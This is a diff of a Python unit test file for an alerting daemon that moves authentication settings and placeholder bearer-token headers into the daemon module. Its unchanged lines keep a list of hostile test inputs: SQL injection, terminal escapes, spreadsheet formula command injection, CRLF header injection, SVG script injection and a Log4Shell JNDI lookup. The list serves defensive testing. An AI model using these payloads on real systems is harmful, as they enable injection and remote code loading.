@@ -3,7 +3,7 @@
 import base64
 import unittest
 
-from daemon import SEVERITY, Scenario
+from daemon import ANA, AUTH, PROMETHEUS, SEVERITY, Scenario
 from load import alert
 from sink import Sink
 
@@ -12,15 +12,6 @@ HOSTILE = [
     "'; DROP TABLE alert; --", "\x1b[2J\x1b]0;owned\x07", "\u202egnp.exe", "=cmd|' /C calc'!A0", "%s%n%x", "\r\nSet-Cookie: a=b",
     "</title><svg/onload=alert(1)>", "${jndi:ldap://192.0.2.1/a}",
 ]
-AUTH = """
-auth:
-  anonymous: none
-  tokens:
-    - {name: ana, token_file: ana, scopes: [read, respond, admin]}
-    - {name: prometheus, token_file: prometheus, scopes: ["ingest:alertmanager-api"]}
-"""
-ANA = {"Authorization": "Bearer token-of-ana-0123456789"}
-PROMETHEUS = {"Authorization": "Bearer token-of-prometheus"}
 OPEN = {"/-/healthy", "/-/ready", "/"}
 
 
